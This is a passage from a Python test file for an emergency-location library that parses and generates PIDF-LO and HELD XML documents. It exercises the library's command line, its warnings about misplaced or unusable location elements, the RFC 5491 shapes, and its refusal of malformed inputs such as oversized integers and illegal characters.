        parse_pidf_lo("<a/>", **{name: value})


def test_a_limit_below_one_is_our_error() -> None:
    with pytest.raises(PidfError, match="max_bytes"):
        parse_pidf_lo("<a/>", max_bytes=0)


# --- the command line: PIDF-LO and HELD in, the entity said, national numbers ----------------------


def cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err):
        status = main(list(argv), out)
    return status, out.getvalue(), err.getvalue()


def test_convert_reads_a_pidf_lo_document() -> None:
    status, out, err = cli(
        "convert", str(FIELD / "dec112_simple-civic_valid-civic-address.xml"), "--to", "json"
    )
    assert (status, err) == (0, "")
    [address] = json.loads(out)
    assert address["id"] == "ue"  # the tuple's id
    assert address["civic"]["country"] == "AT"
    assert address["civic"]["floor"] == "5"


def test_convert_reads_a_held_response(tmp_path: Path) -> None:
    inner = PRESENCE.format(
        '<tuple id="t1"><status>'
        + geopriv(civic("Seattle") + point(47.6, -122.3))
        + "</status></tuple>"
    )
    path = tmp_path / "response.xml"
    path.write_text(f'<locationResponse xmlns="{HELD}">{inner}</locationResponse>', "utf-8")
    status, out, _ = cli("convert", str(path), "--to", "json")
    assert status == 0
    [address] = json.loads(out)
    assert (address["civic"]["city"], address["geo"]) == (
        "Seattle",
        {"latitude": 47.6, "longitude": -122.3},
    )


def test_convert_says_what_it_could_not_use_and_why() -> None:
    status, out, err = cli(
        "convert", str(FIELD / "blog_rfc5491_point_plus_floor.xml"), "--to", "json"
    )
    assert (status, out) == (2, "")
    assert "warning: the civicAddress has no <country>" in err
    assert (
        "holds no civic address with a country (it holds a point (-43.5723, 153.2176), floor='2')"
        in err
    )
    assert "Traceback" not in err


def test_convert_to_pidf_without_entity_says_which_entity_it_used() -> None:
    document = FIELD / "dec112_simple-civic_valid-civic-address.xml"
    status, out, err = cli("convert", str(document), "--to", "pidf")
    assert status == 0
    assert 'entity="pres:ue@emergency-address.invalid"' in out
    assert err == (
        "emergency-address convert: no --entity given; used pres:ue@emergency-address.invalid "
        "(the target's URI belongs there)\n"
    )
    _, _, err = cli("convert", str(document), "--to", "pidf", "--entity", "sip:+4377123@example.at")
    assert err == ""


def test_convert_to_pidf_with_an_xml_illegal_character_is_a_clear_refusal(tmp_path: Path) -> None:
    path = tmp_path / "a.json"
    address = to_dict(us_office())
    address["civic"]["city"] = "Seattle\ufffe"
    path.write_text(json.dumps([address]), "utf-8")
    status, out, err = cli("convert", str(path), "--to", "pidf")
    assert (status, out) == (2, "")
    assert "civic.city: noncharacter U+FFFE" in err


def test_decide_reads_a_national_number_with_region() -> None:
    status, out, _ = cli("decide", "020 7946 0000", "acquisition", "--region", "GB", "--json")
    assert json.loads(out)["number"] == "+442079460000"
    assert status == 1  # no address given: not satisfied
    status, _, err = cli("decide", "020 7946 0000", "acquisition")
    assert status == 2
    assert "NUMBER" in err


def test_a_location_info_outside_a_geopriv_is_named() -> None:
    stray = "<gp:location-info>" + civic("Nowhere") + "</gp:location-info>"
    body = '<tuple id="t"><status>' + stray + geopriv(civic("Seattle")) + "</status></tuple>"
    parsed = parse_pidf_lo(PRESENCE.format(body))
    assert parsed.civic is not None
    assert parsed.civic.city == "Seattle"
    assert parsed.warnings == ("ignored 1 location-info element(s) not directly in a geopriv",)


def test_a_geopriv_inside_a_location_info_is_named_not_walked() -> None:
    inner = geopriv(civic("Inner"))
    body = '<tuple id="t"><status>' + geopriv(civic("Outer") + inner) + "</status></tuple>"
    parsed = parse_pidf_lo(PRESENCE.format(body))
    assert [o.civic.city for o in parsed.objects if o.civic] == ["Outer"]
    assert "ignored 1 geopriv element(s) inside a location-info" in parsed.warnings


@pytest.mark.parametrize(
    "shape", ["Circle", "Ellipse", "ArcBand", "Polygon", "Sphere", "Ellipsoid", "Prism"]
)
def test_every_geodetic_shape_of_rfc5491_is_named(shape: str) -> None:
    """RFC 5491 §5.2's shapes (GML Polygon, GeoShape others): named, never silently dropped."""
    namespace = (
        "http://www.opengis.net/gml" if shape == "Polygon" else "http://www.opengis.net/pidflo/1.0"
    )
    body = f'<s:{shape} xmlns:s="{namespace}" srsName="urn:ogc:def:crs:EPSG::4326"/>'
    parsed = parse_pidf_lo(PRESENCE.format('<dm:device id="d">' + geopriv(body) + "</dm:device>"))
    assert (parsed.shapes, parsed.geo, parsed.warnings, parsed.element) == (
        (shape,),
        None,
        (),
        "device",
    )


def test_a_three_dimensional_point_keeps_latitude_and_longitude() -> None:
    """EPSG 4979 (RFC 5491 §5.2.1, Figure 5): latitude, longitude, altitude."""
    body = (
        '<gml:Point srsName="urn:ogc:def:crs:EPSG::4979"><gml:pos>-34.407 150.883 24.8'
        "</gml:pos></gml:Point>"
    )
    parsed = parse_pidf_lo(PRESENCE.format('<dm:device id="d">' + geopriv(body) + "</dm:device>"))
    assert parsed.geo == GeoPoint(latitude=-34.407, longitude=150.883)


@pytest.mark.parametrize(
    "kwargs",
    [
        {"entity": 10**5000},
        {"method": 10**5000},
        {"timestamp": 10**5000},
        {"extensions": [10**5000]},
    ],
    ids=["entity", "method", "timestamp", "extension"],
)
def test_a_5000_digit_int_is_refused_with_our_error(kwargs: dict[str, Any]) -> None:
    """Found by tests/test_robustness_registry.py: the message quoted the value with repr(),
    which raises a bare ValueError for an int of more than 4,300 digits."""
    arguments = {"entity": "pres:a@example.com", **kwargs}
    with pytest.raises(PidfError, match="too long to show"):
        to_pidf_lo(us_office(), **arguments)


@pytest.mark.parametrize("extensions", [None, 3, "x"])
def test_extensions_that_are_not_a_collection_are_a_type_error(extensions: Any) -> None:
    with pytest.raises(TypeError, match="extensions: expected an iterable"):
        to_civic_xml(SEATTLE, extensions=extensions)
    with pytest.raises(TypeError, match="extensions: expected an iterable"):
        to_pidf_lo(us_office(), entity="pres:a@example.com", extensions=extensions)


def test_a_nul_in_the_declared_encoding_is_our_error() -> None:
    """Found by tests/test_robustness_cli.py (a byte flip in a fixture): codecs.lookup raised a
    bare ValueError for a NUL in the encoding's name."""
    with pytest.raises(PidfError, match="unknown encoding"):
        parse_pidf_lo(b'<?xml version="1.0" encoding="utf\x00-8"?><a/>')
